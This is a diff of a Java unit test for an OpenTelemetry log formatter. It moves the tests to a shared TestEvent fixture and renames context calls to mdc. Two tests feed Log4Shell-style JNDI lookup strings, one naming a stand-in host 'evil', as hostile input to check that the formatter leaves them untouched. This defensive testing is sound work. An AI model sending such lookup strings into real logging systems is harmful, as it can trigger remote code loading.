@@ -7,6 +7,8 @@ import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
 
 import com.google.protobuf.ByteString;
+import dev.sluice.fake.TestEvent;
+import dev.sluice.fake.TestReader;
 import dev.sluice.internal.format.value.JsonObjects;
 import dev.sluice.internal.util.OversizeException;
 import dev.sluice.options.FormatOptions;
@@ -46,14 +48,13 @@ class OtlpFormatTest {
 
   @Test
   void write_isOneRecordOfOneScopeAndOneResource() throws IOException {
-    OtlpEvent event = new OtlpEvent();
+    TestEvent event = TestEvent.of("hello");
     options.setResourceAttributes("service.name=shop");
 
     LogsData data = write(event);
 
     LogRecord log = OtlpDecoder.only(data);
-    assertThat(data.getResourceLogs(0).getScopeLogs(0).getScope().getName())
-        .isEqualTo("com.example.Shop");
+    assertThat(data.getResourceLogs(0).getScopeLogs(0).getScope().getName()).isEqualTo("app.Main");
     assertThat(data.getResourceLogs(0).getResource().getAttributesList())
         .containsExactly(entry("service.name", text("shop")));
     assertThat(log.getTimeUnixNano()).isEqualTo(1_700_000_000_123_456_789L);
@@ -68,22 +69,22 @@ class OtlpFormatTest {
 
   @Test
   void write_asJsonIsTheMappingOfOtlp() throws IOException {
-    OtlpEvent event =
-        new OtlpEvent()
+    TestEvent event =
+        TestEvent.of("hello")
             .field("count", 7)
             .field("bytes", new byte[] {1, 2, (byte) 0xFF})
             .field("list", List.of("a", 1.5))
             .field("none", null)
-            .context("trace_id", TRACE)
-            .context("span_id", SPAN)
-            .context("trace_flags", "01");
+            .mdc("trace_id", TRACE)
+            .mdc("span_id", SPAN)
+            .mdc("trace_flags", "01");
 
     assertThat(new String(json(options).write(event), UTF_8))
         .isEqualTo(
             """
             {"resourceLogs":[{"resource":{"attributes":[\
             {"key":"service.name","value":{"stringValue":"unknown_service:java"}}]},\
-            "scopeLogs":[{"scope":{"name":"com.example.Shop"},"logRecords":[{\
+            "scopeLogs":[{"scope":{"name":"app.Main"},"logRecords":[{\
             "timeUnixNano":"1700000000123456789","observedTimeUnixNano":"1800000000000000001",\
             "severityNumber":9,"severityText":"INFO","body":{"stringValue":"hello"},\
             "attributes":[{"key":"thread.name","value":{"stringValue":"main"}},\
@@ -99,7 +100,7 @@ class OtlpFormatTest {
   @CsvSource({"TRACE,1", "DEBUG,5", "INFO,9", "WARN,13", "ERROR,17", "FATAL,21"})
   void write_mapsTheSeverityAndKeepsTheLevelsOwnName(Severity severity, int number)
       throws IOException {
-    OtlpEvent event = new OtlpEvent();
+    TestEvent event = TestEvent.of("hello");
     event.severity = severity;
     event.level = "NOTICE";
 
@@ -120,7 +121,7 @@ class OtlpFormatTest {
   })
   void write_leavesOutATimeThatOtlpCannotHold(long second, int nano, String expected)
       throws IOException {
-    OtlpEvent event = new OtlpEvent();
+    TestEvent event = TestEvent.of("hello");
     event.epochSecond = second;
     event.nanoOfSecond = nano;
 
@@ -138,8 +139,8 @@ class OtlpFormatTest {
     adder.add(9);
     DoubleAdder sum = new DoubleAdder();
     sum.add(1.5);
-    OtlpEvent event =
-        new OtlpEvent()
+    TestEvent event =
+        TestEvent.of("hello")
             .field("string", "x")
             .field("char", 'c')
             .field("bool", false)
@@ -202,7 +203,7 @@ class OtlpFormatTest {
 
   @Test
   void write_keepsTheSignOfZero() throws IOException {
-    OtlpEvent event = new OtlpEvent().field("zero", -0.0);
+    TestEvent event = TestEvent.of("hello").field("zero", -0.0);
 
     // Not by the parser of protobuf for JSON: it loses the sign.
     assertThat(new String(json(options).write(event), UTF_8)).contains("{\"doubleValue\":-0.0}");
@@ -216,23 +217,23 @@ class OtlpFormatTest {
   void write_endsAMapThatContainsItself() throws IOException {
     Map<String, Object> map = new HashMap<>();
     map.put("self", map);
-    OtlpEvent event = new OtlpEvent().field("map", map);
+    TestEvent event = TestEvent.of("hello").field("map", map);
 
     assertThat(write(event).toString()).contains("\"...\"");
   }
 
   @Test
   void write_keepsEveryValueOfTheSameName() throws IOException {
-    OtlpEvent event =
-        new OtlpEvent()
+    TestEvent event =
+        TestEvent.of("hello")
             .field("thread.name", "mine")
             .field("exception.type", "free here")
             .field("id", 1)
             .field("id", 2)
             .field("", 3)
-            .context("id", "4")
-            .context("field_id", "5")
-            .context("", "6");
+            .mdc("id", "4")
+            .mdc("field_id", "5")
+            .mdc("", "6");
 
     LogRecord log = OtlpDecoder.only(write(event));
 
@@ -253,8 +254,8 @@ class OtlpFormatTest {
 
   @Test
   void write_seesThatTwoNamesBecomeOne() throws IOException {
-    OtlpEvent event =
-        new OtlpEvent()
+    TestEvent event =
+        TestEvent.of("hello")
             .field("a\uD800", 1)
             .field("a\uDC00", 2)
             .field("m", Map.of("b\uD800", 3, "b\uFFFD", 3));
@@ -273,7 +274,7 @@ class OtlpFormatTest {
 
   @Test
   void write_describesTheException() throws IOException {
-    OtlpEvent event = thrown();
+    TestEvent event = thrown();
 
     LogRecord log = OtlpDecoder.only(write(event));
 
@@ -312,7 +313,7 @@ class OtlpFormatTest {
 
   @Test
   void write_saysWhereTheCallStandsWhenAsked() throws IOException {
-    OtlpEvent event = new OtlpEvent();
+    TestEvent event = TestEvent.of("hello");
     event.caller = new StackTraceElement("com.example.Shop", "buy", "Shop.java", 42);
     assertThat(OtlpDecoder.keys(OtlpDecoder.only(write(event)))).containsExactly("thread.name");
     options.setIncludeCaller("true");
@@ -331,7 +332,7 @@ class OtlpFormatTest {
 
   @Test
   void write_listsTheMarkers() throws IOException {
-    OtlpEvent event = new OtlpEvent().field("log.markers", "mine");
+    TestEvent event = TestEvent.of("hello").field("log.markers", "mine");
     event.markers.addAll(List.of("AUDIT", "SECURITY"));
 
     LogRecord log = OtlpDecoder.only(write(event));
@@ -343,7 +344,7 @@ class OtlpFormatTest {
 
   @Test
   void write_leavesOutWhatTheOptionsSwitchOff() throws IOException {
-    OtlpEvent event = new OtlpEvent().field("f", 1).context("c", "2").context("trace_id", TRACE);
+    TestEvent event = TestEvent.of("hello").field("f", 1).mdc("c", "2").mdc("trace_id", TRACE);
     event.markers.add("M");
     options.setIncludeFields("false");
     options.setIncludeContext("false");
@@ -358,12 +359,8 @@ class OtlpFormatTest {
   @Test
   void write_putsTheContextUnderItsName() throws IOException {
     options.setContextName("mdc");
-    OtlpEvent event =
-        new OtlpEvent()
-            .field("mdc", 1)
-            .context("trace_id", TRACE)
-            .context("user", "u")
-            .context("n", 2);
+    TestEvent event =
+        TestEvent.of("hello").field("mdc", 1).mdc("trace_id", TRACE).mdc("user", "u").mdc("n", 2);
 
     LogRecord log = OtlpDecoder.only(write(event));
 
@@ -371,7 +368,7 @@ class OtlpFormatTest {
     assertThat(OtlpDecoder.value(log, "context_mdc"))
         .isEqualTo(kvlist(entry("n", integer(2)), entry("user", text("u"))));
     assertThat(
-            OtlpDecoder.keys(OtlpDecoder.only(write(new OtlpEvent().context("trace_id", TRACE)))))
+            OtlpDecoder.keys(OtlpDecoder.only(write(TestEvent.of("hello").mdc("trace_id", TRACE)))))
         .as("no empty list")
         .containsExactly("thread.name");
   }
@@ -385,8 +382,7 @@ class OtlpFormatTest {
   })
   void write_takesTheTraceUnderTheNamesOfAllTracers(String traceId, String spanId, String flags)
       throws IOException {
-    OtlpEvent event =
-        new OtlpEvent().context(traceId, TRACE).context(spanId, SPAN).context(flags, "01");
+    TestEvent event = TestEvent.of("hello").mdc(traceId, TRACE).mdc(spanId, SPAN).mdc(flags, "01");
 
     LogRecord log = OtlpDecoder.only(write(event));
 
@@ -398,7 +394,7 @@ class OtlpFormatTest {
 
   @Test
   void write_takesTheFirstValidTraceAndKeepsTheOther() throws IOException {
-    OtlpEvent event = new OtlpEvent().context("trace_id", "none").context("traceId", TRACE);
+    TestEvent event = TestEvent.of("hello").mdc("trace_id", "none").mdc("traceId", TRACE);
 
     LogRecord log = OtlpDecoder.only(write(event));
 
@@ -409,12 +405,12 @@ class OtlpFormatTest {
 
   @Test
   void write_takesTheTraceFromTheContext() throws IOException {
-    OtlpEvent event =
-        new OtlpEvent()
-            .context("trace_id", TRACE.toUpperCase(Locale.ROOT))
-            .context("span_id", SPAN)
-            .context("trace_flags", "01")
-            .context("user", "u");
+    TestEvent event =
+        TestEvent.of("hello")
+            .mdc("trace_id", TRACE.toUpperCase(Locale.ROOT))
+            .mdc("span_id", SPAN)
+            .mdc("trace_flags", "01")
+            .mdc("user", "u");
 
     LogRecord log = OtlpDecoder.only(write(event));
 
@@ -437,11 +433,8 @@ class OtlpFormatTest {
         "${jndi:ldap://0123456789/abcdef}"
       })
   void write_leavesAnInvalidTraceIdAnAttribute(String id) throws IOException {
-    OtlpEvent event =
-        new OtlpEvent()
-            .context("trace_id", id)
-            .context("span_id", SPAN)
-            .context("trace_flags", "01");
+    TestEvent event =
+        TestEvent.of("hello").mdc("trace_id", id).mdc("span_id", SPAN).mdc("trace_flags", "01");
 
     LogRecord log = OtlpDecoder.only(write(event));
 
@@ -454,11 +447,11 @@ class OtlpFormatTest {
 
   @Test
   void write_leavesAnInvalidSpanOrFlagsAnAttribute() throws IOException {
-    OtlpEvent event =
-        new OtlpEvent()
-            .context("trace_id", TRACE)
-            .context("span_id", "0000000000000000")
-            .context("trace_flags", 1);
+    TestEvent event =
+        TestEvent.of("hello")
+            .mdc("trace_id", TRACE)
+            .mdc("span_id", "0000000000000000")
+            .mdc("trace_flags", 1);
 
     LogRecord log = OtlpDecoder.only(write(event));
 
@@ -469,8 +462,8 @@ class OtlpFormatTest {
   @Test
   void write_sendsHostileTextVerbatim() throws IOException {
     String hostile = "${jndi:ldap://evil/x}\0\u2028\"\\</script>\u001b[31m";
-    OtlpEvent event = new OtlpEvent().field(hostile, hostile).context("c" + hostile, hostile);
-    event.message = hostile;
+    TestEvent event = TestEvent.of("hello").field(hostile, hostile).mdc("c" + hostile, hostile);
+    event.saying(hostile);
     event.logger = hostile;
     event.thread = hostile;
     event.level = hostile;
@@ -489,11 +482,11 @@ class OtlpFormatTest {
   @Test
   void write_refusesWhatIsTooLargeAndGoesOn() throws IOException {
     options.setMaxEventBytes("2 KiB");
-    OtlpProtoFormat<OtlpEvent> proto = proto(options);
-    OtlpJsonFormat<OtlpEvent> json = json(options);
-    OtlpEvent large = new OtlpEvent();
-    large.message = "é".repeat(1_000_000);
-    OtlpEvent small = new OtlpEvent();
+    OtlpProtoFormat<TestEvent> proto = proto(options);
+    OtlpJsonFormat<TestEvent> json = json(options);
+    TestEvent large = TestEvent.of("hello");
+    large.saying("é".repeat(1_000_000));
+    TestEvent small = TestEvent.of("hello");
     byte[] first = proto.write(small);
 
     assertThatExceptionOfType(OversizeException.class).isThrownBy(() -> proto.write(large));
@@ -505,9 +498,9 @@ class OtlpFormatTest {
 
   @Test
   void writeSafe_isReadableAfterAnEventThatFailed() throws IOException {
-    OtlpProtoFormat<OtlpEvent> proto = proto(options);
-    OtlpJsonFormat<OtlpEvent> json = json(options);
-    OtlpEvent event = new OtlpEvent().field("bad", List.of(1, new Thrower()));
+    OtlpProtoFormat<TestEvent> proto = proto(options);
+    OtlpJsonFormat<TestEvent> json = json(options);
+    TestEvent event = TestEvent.of("hello").field("bad", List.of(1, new Thrower()));
     event.thread = "lone \uD800";
     for (int i = 0; i < 3; i++) {
       assertThatExceptionOfType(IllegalStateException.class).isThrownBy(() -> proto.write(event));
@@ -521,22 +514,17 @@ class OtlpFormatTest {
       assertThat(log.getBody()).isEqualTo(text("format error: java.lang.IllegalStateException"));
       assertThat(OtlpDecoder.value(log, "thread.name")).isEqualTo(text("lone \uFFFD"));
     }
-    assertThat(OtlpDecoder.json(json.write(new OtlpEvent())))
-        .isEqualTo(OtlpDecoder.proto(proto.write(new OtlpEvent())));
+    assertThat(OtlpDecoder.json(json.write(TestEvent.of("hello"))))
+        .isEqualTo(OtlpDecoder.proto(proto.write(TestEvent.of("hello"))));
   }
 
   @Test
   void write_asJsonEndsWithTheNewline() throws IOException {
-    OtlpJsonFormat<OtlpEvent> format =
+    OtlpJsonFormat<TestEvent> format =
         new OtlpJsonFormat<>(
-            new OtlpEvent.Reader(),
-            options,
-            new JsonObjects(),
-            resource(),
-            () -> NOW,
-            new byte[] {10});
-    OtlpEvent event = new OtlpEvent();
-    event.message = "two\nlines\r\u2028";
+            new TestReader(), options, new JsonObjects(), resource(), () -> NOW, new byte[] {10});
+    TestEvent event = TestEvent.of("hello");
+    event.saying("two\nlines\r\u2028");
 
     String record = new String(format.write(event), UTF_8);
 
@@ -544,29 +532,26 @@ class OtlpFormatTest {
     assertThat(record.indexOf('\n')).isEqualTo(record.length() - 1);
   }
 
-  private static OtlpEvent thrown() {
-    OtlpEvent event = new OtlpEvent();
-    event.thrownClass = "com.example.Oops";
-    event.thrownMessage = "no";
-    event.stackTrace = "at 😀 line";
-    return event;
+  private static TestEvent thrown() {
+    TestEvent event = TestEvent.of("hello");
+    return event.thrown("com.example.Oops", "no", "at 😀 line");
   }
 
   /** The record of both formats, which must be the same message. */
-  private LogsData write(OtlpEvent event) throws IOException {
+  private LogsData write(TestEvent event) throws IOException {
     LogsData data = OtlpDecoder.proto(proto(options).write(event));
     assertThat(OtlpDecoder.json(json(options).write(event))).isEqualTo(data);
     return data;
   }
 
-  private OtlpProtoFormat<OtlpEvent> proto(FormatOptions options) {
+  private OtlpProtoFormat<TestEvent> proto(FormatOptions options) {
     return new OtlpProtoFormat<>(
-        new OtlpEvent.Reader(), options, new JsonObjects(), resource(), () -> NOW);
+        new TestReader(), options, new JsonObjects(), resource(), () -> NOW);
   }
 
-  private OtlpJsonFormat<OtlpEvent> json(FormatOptions options) {
+  private OtlpJsonFormat<TestEvent> json(FormatOptions options) {
     return new OtlpJsonFormat<>(
-        new OtlpEvent.Reader(), options, new JsonObjects(), resource(), () -> NOW, new byte[0]);
+        new TestReader(), options, new JsonObjects(), resource(), () -> NOW, new byte[0]);
   }
 
   private OtlpResource resource() {
